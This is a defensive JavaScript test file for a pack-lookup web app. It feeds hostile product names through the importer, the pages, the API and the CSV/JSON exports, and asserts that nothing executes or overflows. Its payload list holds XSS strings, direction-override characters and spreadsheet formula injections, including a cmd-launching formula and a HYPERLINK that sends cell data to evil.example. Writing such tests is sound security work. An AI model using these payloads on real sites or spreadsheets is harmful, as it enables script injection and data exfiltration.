// Tests malicious names in a release, from the importer to every output: no script runs, no text
// direction leaks, and nothing is wider than the page.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, describe, test } from "node:test";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { ImportError, importRelease } from "../../npm/import.js";
import { PackLookup } from "../../npm/core.js";
import { publishDataset } from "../../scripts/build/page.mjs";
import { paths } from "../../scripts/common/project.mjs";
import {
  downloaded,
  launch,
  openPage,
  openView,
  resultName,
  textOf,
  type,
  typeScan,
} from "./driver.mjs";
import { inControl, servePage } from "./visit.mjs";

const TURNED = "\u202e";

/** The malicious forms of a name. A script that runs calls `ran`. */
const hostile = [
  (name) => `<script>ran("script")</script><img src=x onerror=ran("img")> ${name}`,
  (name) =>
    `"'><svg onload=ran("svg")> ' autofocus onfocus=ran("focus") x=" \`\${ran("template")}\` {{ran("braces")}} &lt;script&gt; ${name}`,
  (name) => `${TURNED}50 ${name} \u2067never closed\u202e`,
  (name) => `\u05d0\u05d1\u05d2 123 ${name} \u0645\u0644\u063a`,
  (name) => `\u0001\u0007\u001b[2J\u0085\u2028\u200b\ufeff\u007f ${name}`,
  (name) => `=cmd|' /C calc'!A0 ${name}`,
  (name) => `+1+1,"${name}"`,
  (name) => `-2+3 ${name}`,
  (name) => `@SUM(1+1) ${name}`,
  (name) => `=HYPERLINK("https://evil.example/?"&A1,"${name}")`,
  (name) => `javascript:ran("link") ]]></title></style></textarea> --> ${name}`,
  (name) => `${"W".repeat(900)} ${name}`,
];

const escaped = (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
const plainText = (text) => text.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");

/** Today, as names of files have it: `f_vtm2_3061125.xml` is of 6 November 2025. */
const TODAY = new Date().toISOString().slice(2, 10).split("-").reverse().join("");

/**
 * The files of a zip and its nested zips, without the mark of demonstration data. They are
 * of today, because old data have their own notice.
 */
function unmarked(files) {
  const without = (name, bytes) =>
    name.endsWith(".zip")
      ? zipSync(unmarked(unzipSync(bytes)))
      : strToU8(strFromU8(bytes).replace(/<\?pack-lookup-demonstration .*?\?>/, ""));
  return Object.fromEntries(
    Object.entries(files).map(([name, bytes]) => [
      name.replace(/\d{6}(?=\.xml$)/, TODAY),
      without(name, bytes),
    ]),
  );
}

/**
 * The demonstration release with changed names of packs and products, and without its mark.
 */
function releaseWith(changed) {
  const files = unmarked(unzipSync(readFileSync(paths.demoRelease)));
  let place = 0;
  for (const file of Object.keys(files).filter((name) => /^f_(ampp|amp|vmpp|vmp)2/.test(name))) {
    const change = (_, tag, text) => `<${tag}>${escaped(changed(place++, plainText(text)))}<`;
    files[file] = strToU8(strFromU8(files[file]).replace(/<(NM|SUBP|ABBREVNM)>([^<]*)</g, change));
  }
  return zipSync(files, { level: 1 });
}

const { dataset } = await importRelease(
  releaseWith((place, name) => hostile[place % hostile.length](name)),
  { name: "hostile.zip" },
);
const packs = await PackLookup.open({ dataset });
const all = [...packs];
const browser = await launch();

/** A pack with a barcode for each form of name. The last one is a re-used code. */
const codes = hostile.map((make) => {
  const start = make("\n").split("\n")[0].trim();
  return all
    .find(
      (pack) =>
        pack.name.startsWith(start) && pack.gtin_codes.some(({ gtin }) => isOnlyOn(gtin, pack)),
    )
    ?.gtin_codes.find(({ gtin }) => packs.uses(gtin).length > 0)?.gtin;
});
const reused = all.flatMap((pack) => pack.gtin_codes).find(({ gtin }) => carriers(gtin) > 1).gtin;

function carriers(gtin) {
  return new Set(packs.uses(gtin).map(({ pack }) => pack.pack_id)).size;
}

function isOnlyOn(gtin, pack) {
  return carriers(gtin) === 1 && packs.gtin(gtin)?.pack_id === pack.pack_id;
}

test("each hostile name is on a pack with a barcode", () => {
  assert.deepEqual(
    codes.map((code, kind) => code ?? kind).filter((code) => typeof code !== "string"),
    [],
  );
});

/** Nearly every other test has demonstration data. Its notice must not appear for other data. */
test("an imported release is not labelled as demonstration data", async (t) => {
  assert.equal(packs.about.dataset.demo, false);
  const { page, server } = await opened(t, { expectErrors: true });
  await inControl(page);
  const [notice, about] = await page.evaluate(async () => {
    const response = await fetch("/api/about");
    return [response.headers.get("dataset-notice"), await response.json()];
  });
  assert.deepEqual([notice, about.warning, about.dataset.demo], [null, undefined, false]);
  assert.doesNotMatch(await page.locator("body").innerText(), /demonstration/i);
  await page.goto(`${server.origin}${packs.gtin(codes[0]).url}`);
  assert.doesNotMatch(await page.locator("body").innerText(), /demonstration/i);
});

test("rejects a name of 64 KB in one sentence", async () => {
  const long = (place, name) => (place === 0 ? "x".repeat(65_536) : name);
  const refused = await importRelease(releaseWith(long), { name: "long.zip" }).catch(
    (error) => error,
  );
  assert.ok(refused instanceof ImportError, String(refused));
  assert.match(refused.message, /more than 2048 bytes in a text/);
  assert.ok(refused.message.length < 300);
});

/** Opens the page at its narrowest with the hostile dataset, and records each script that runs. */
async function opened(t, options) {
  const { folder, server } = await servePage(t);
  await publishDataset(dataset, folder);
  const ran = [];
  const page = await openPage(t, browser, server.origin, {
    viewport: { width: 320, height: 640 },
    ...options,
  });
  await page.exposeFunction("ran", (what) => ran.push(what));
  page.on("dialog", (dialog) => ran.push(dialog.message()));
  t.after(() => assert.deepEqual(ran, [], "nothing of a name runs"));
  return { page, server };
}

/**
 * Asserts for the current page: no foreign markup, no text direction changed by another text,
 * nothing too wide.
 */
async function assertHolds(page, what) {
  const { markup, turned, width } = await page.evaluate(seen, TURNED);
  assert.deepEqual(markup, [], `${what}: markup of a name`);
  assert.deepEqual(turned, [], `${what}: texts that a name can turn round`);
  assert.ok(width <= 320, `${what} is ${width} wide`);
}

/**
 * Runs in the page. A text direction ends at the closest isolated ancestor, so only the name may be
 * in that element.
 */
function seen(turner) {
  const isIsolated = (element) => /isolate|plaintext/.test(getComputedStyle(element).unicodeBidi);
  const around = (element) =>
    isIsolated(element) || !element.parentElement ? element : around(element.parentElement);
  const texts = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode())
    if (walker.currentNode.data.includes(turner)) texts.push(walker.currentNode);
  const isShown = ({ parentElement }) =>
    parentElement.getClientRects().length > 0 && !parentElement.closest(".visually-hidden");
  const turned = texts
    .filter(isShown)
    .map((text) => [around(text.parentElement).textContent.trim(), text.data.trim()])
    .filter(([box, text]) => box !== text);
  return {
    markup: [
      ...document.querySelectorAll(
        "script:not([src], [type='application/ld+json']), img[src=x], [onerror], [onload], [onfocus], [autofocus], a[href^=javascript]",
      ),
    ].map(({ outerHTML }) => outerHTML.slice(0, 100)),
    turned,
    width: document.documentElement.scrollWidth,
  };
}

/** A text as the page shows it: without invisible characters and repeated white space. */
const shown = (text) => text.replace(/\s+/g, " ").trim();

describe("the page", () => {
  after(() => packs.close());

  test("shows hostile names as text in results, announcements, lists, history and exports", async (t) => {
    const { page } = await opened(t);
    for (const code of codes) {
      await typeScan(page, code);
      const { name } = packs.gtin(code);
      await page.waitForFunction(
        (name) =>
          document.querySelector("#result-name")?.textContent.replace(/\s+/g, " ").trim() === name,
        shown(name),
      );
      await assertHolds(page, name.slice(0, 40));
      await page.getByRole("button", { name: "Report this code" }).click();
      await assertHolds(page, `the report of ${name.slice(0, 40)}`);
      await page.waitForFunction(
        (name) =>
          [...document.querySelectorAll("[id^=announce]")].some(({ textContent }) =>
            textContent.includes(name),
          ),
        name,
      );
    }
    await typeScan(page, reused);
    assert.match(await textOf(resultName(page)), /used for/);
    await assertHolds(page, "a re-used code");
    for (const query of ["script", "calc", "50", "WWWW", "javascript", "\u05d0\u05d1\u05d2"]) {
      await page.getByLabel("Barcode number or name").fill(query);
      await page.locator(".group, .hit, .hits p").first().waitFor();
      await assertHolds(page, `the hits of ${query}`);
      for (const product of (await page.locator(".group").all()).slice(0, 5)) await product.click();
      await assertHolds(page, `the packs of ${query}`);
    }
    await type(page, "<script>ran('query')</script>");
    await assertHolds(page, "a query of markup");

    await openView(page, "History");
    await page.locator(".history .hit").first().waitFor();
    await assertHolds(page, "the history");
    await page.getByRole("button", { name: "Counts" }).click();
    await assertHolds(page, "the counts");
    await assertNoFormulas(await saved(page, "CSV"));
    assert.equal(JSON.parse(await saved(page, "JSON")).length, codes.length + 1);
    await page.locator(".history .hit").last().click();
    await resultName(page).waitFor();
    await assertHolds(page, "a row that is opened again");
  });

  test("shows hostile names as text in pack pages and the API on the device", async (t) => {
    // The server may stop while the service worker checks for updates.
    const { page, server } = await opened(t, { expectErrors: true });
    await inControl(page);
    for (const code of codes) {
      const { type, body } = await page.evaluate(async (path) => {
        const response = await fetch(path);
        return { type: response.headers.get("content-type"), body: await response.text() };
      }, `/api/gtin/${code}`);
      assert.equal(type, "application/json");
      assert.equal(JSON.parse(body).name, packs.gtin(code).name);
    }
    let described = 0;
    for (const pack of codes.map(packs.gtin)) {
      const answered = await page.goto(`${server.origin}${pack.url}`);
      assert.match(answered.headers()["content-security-policy"], /^default-src 'none'/);
      assert.equal(await textOf(page.locator("h1")), shown(pack.name));
      assert.match(await page.title(), / · Pack Lookup$/, "a name does not end the title");
      for (const data of await page
        .locator("script[type='application/ld+json']")
        .allTextContents()) {
        assert.equal(JSON.parse(data).name, pack.name, "the whole name is data");
        described += 1;
      }
      await assertHolds(page, `the page of ${pack.name.slice(0, 40)}`);
    }
    assert.ok(described > 0, "a page has schema.org data");
  });
});

async function saved(page, name) {
  const button = page.getByRole("button", { name, exact: true });
  return String((await downloaded(page, button)).bytes);
}

/** Asserts that a spreadsheet calculates no cell, except a quoted text. */
function assertNoFormulas(csv) {
  const cells = [
    ...csv.replace(/^\ufeff/, "").matchAll(/(?:^|[,\n])(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g),
  ].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare);
  assert.ok(
    cells.some((cell) => cell.startsWith("'=cmd")),
    "a name like a formula is in it",
  );
  assert.deepEqual(
    cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^="[^"]*"$/.test(cell)),
    [],
  );
}
